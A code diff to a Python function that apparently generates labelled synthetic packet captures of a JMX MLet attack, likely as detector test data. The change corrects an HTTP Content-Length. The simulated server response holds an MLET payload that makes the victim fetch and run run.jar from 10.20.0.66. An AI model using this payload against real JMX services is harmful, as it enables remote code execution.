@@ -172,7 +172,7 @@ def jrmp_c1_attack(capture, truth):
     truth["names"] += ["getMBeansFromURL", "javax.management.loading.MLet"]
     web = wire.Connection(capture, MILL, STRANGER, 80, s.link.at)		# the control fetches what it was told to
     web.say(True, b"GET /m.html HTTP/1.1\r\nHost: 10.20.0.66\r\nUser-Agent: Java/1.8.0\r\n\r\n")
-    web.say(False, b"HTTP/1.1 200 OK\r\nContent-Length: 40\r\n\r\n<MLET CODE=Run ARCHIVE=run.jar NAME=a></>")
+    web.say(False, b"HTTP/1.1 200 OK\r\nContent-Length: 41\r\n\r\n<MLET CODE=Run ARCHIVE=run.jar NAME=a></>")
     web.close()
     s.jmx("close")
     s.close()
